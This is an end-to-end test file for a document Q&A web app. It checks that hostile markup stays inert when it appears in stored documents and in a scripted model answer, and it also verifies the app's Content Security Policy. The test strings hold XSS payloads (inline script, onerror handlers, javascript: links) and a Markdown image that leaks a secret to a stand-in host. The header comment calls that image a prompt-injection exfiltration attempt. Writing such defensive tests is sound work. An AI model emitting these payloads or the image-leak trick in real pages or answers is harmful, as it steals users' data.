/**
 * Hostile markup stays inert. A document holding `<script>`, an `onerror` handler, a Markdown
 * image on an outside host and a `javascript:` link is shown as text on its page; a model's answer
 * carrying the same (a prompt-injection exfiltration attempt) is rendered as sanitized Markdown
 * with the image as alt text. In both, no script runs and the browser never asks the outside
 * host for anything (the harness records and fails any request off 127.0.0.1). The CSP itself is
 * checked in the page: markup that did reach the DOM still could not run or load.
 */
import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { answered, askQuestion, citationLinks, signInToAsk, TIMEOUT } from "./app.ts";
import { DOCS, USERS } from "./fixtures.ts";
import { documentId, expectAccessible, skipReason, webTestLifecycle } from "./harness.ts";
import { ScriptedLlm } from "./scripted-llm.ts";

const pwned = (page: Page) => page.evaluate(() => (globalThis as unknown as { __kbPwned?: string }).__kbPwned ?? null);

/** `<img>` elements whose address is not this server's. */
const outsideImages = (page: Page) =>
  page.evaluate(() => {
    const doc = (globalThis as unknown as { document: { querySelectorAll(s: string): ArrayLike<{ src: string }> } }).document;
    return Array.from(doc.querySelectorAll("img"))
      .map((i) => i.src)
      .filter((src) => src && !src.startsWith("http://127.0.0.1:") && !src.startsWith("data:") && !src.startsWith("blob:"));
  });

describe.skipIf(skipReason())("hostile markup is inert", () => {
  const web = webTestLifecycle();

  it("shows a document's <script>, onerror and outside image as text on its page", async () => {
    const server = await web.server();
    const session = await web.session(server);
    const { page } = session;
    await signInToAsk(page, USERS.minji.name, USERS.minji.password);

    // Markdown: the extracted text keeps the script's body and the image's alt text, as text.
    await page.goto(`/documents/${await documentId(server, DOCS.inert.source)}?page=1&quote=${encodeURIComponent("The quarantine checklist covers visitors and parcels.")}`);
    let region = page.getByRole("region", { name: "Page 1" });
    await region.getByText("window.__kbPwned = 'script';", { exact: false }).waitFor({ timeout: TIMEOUT });
    expect(await page.locator("role=mark").textContent()).toBe("The quarantine checklist covers visitors and parcels.");
    await expectAccessible(page, "document view (hostile markup)");

    // Plain text: every character of the markup is there, shown literally.
    await page.goto(`/documents/${await documentId(server, DOCS.rawMarkup.source)}?page=1`);
    region = page.getByRole("region", { name: "Page 1" });
    await region.getByText("<script>window.__kbPwned = 'raw-script';</script>", { exact: false }).waitFor({ timeout: TIMEOUT });
    await region.getByText('<img src="http://outside.example/raw.png"', { exact: false }).waitFor();
    await region.getByText("![tracking pixel](http://outside.example/raw-pixel.png)", { exact: false }).waitFor();
    expect(await pwned(page)).toBeNull();
    expect(await outsideImages(page)).toEqual([]);
  });

  it("renders a model's answer with the same markup as sanitized Markdown: no script, no outside image", async () => {
    const llm = new ScriptedLlm(
      () => ({
        cite: DOCS.inert.phrase,
        text: "The quarantine checklist covers visitors and parcels [{n}]. <script>window.__kbPwned = 'answer-script'</script> <img src=x onerror=\"window.__kbPwned='answer-onerror'\"> ![see](http://outside.example/leak.png?q=secret) [click](javascript:window.__kbPwned='answer-link')",
      }),
      { pauses: [] },
    );
    const server = await web.server({}, { llmProvider: llm });
    const session = await web.session(server);
    const { page } = session;
    await signInToAsk(page, USERS.minji.name, USERS.minji.password);
    await askQuestion(page, "What does the quarantine checklist cover?");
    await answered(page);
    await page.getByText("[see]").waitFor(); // the image as its alt text
    expect(await outsideImages(page)).toEqual([]);
    // The javascript: link is not a link.
    expect(await page.getByRole("link", { name: "click" }).count()).toBe(0);
    await page.getByText("click").first().click();
    expect(await pwned(page)).toBeNull();
    await expectAccessible(page, "ask (answer with hostile markup)");
  });

  it("serves the app under a CSP that stops inline script and outside loads even when markup reaches the DOM", async () => {
    const server = await web.server();
    const session = await web.session(server);
    const { page } = session;
    const res = await page.goto("/signin");
    const csp = res?.headers()["content-security-policy"] ?? "";
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).not.toContain("unsafe-inline'; script"); // style-src may need it; script-src must not
    expect(csp).toMatch(/img-src 'self'[^;]*;/);
    await page.getByRole("heading", { name: "Sign in" }).waitFor({ timeout: TIMEOUT });
    // Markup that got into the DOM anyway (as a sanitizer bug would let it).
    await page.evaluate(() => {
      const doc = (globalThis as unknown as { document: { createElement(t: string): Record<string, unknown> & { setAttribute(k: string, v: string): void }; body: { append(n: unknown): void } } }).document;
      const script = doc.createElement("script");
      script.textContent = "window.__kbPwned = 'inline'";
      doc.body.append(script);
      const img = doc.createElement("img");
      img.setAttribute("src", "http://outside.example/csp.png");
      doc.body.append(img);
    });
    await expect.poll(async () => (await session.cspViolations()).length, { timeout: TIMEOUT }).toBeGreaterThanOrEqual(2);
    expect(await pwned(page)).toBeNull();
    expect(await session.cspViolations()).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src/), "img-src http://outside.example/csp.png"]));
    expect(session.reachedNetwork).toEqual([]); // the CSP stopped the image before any request left the page
    session.outside.length = 0; // attempted by the test itself, and blocked: not the app's doing
  });
});
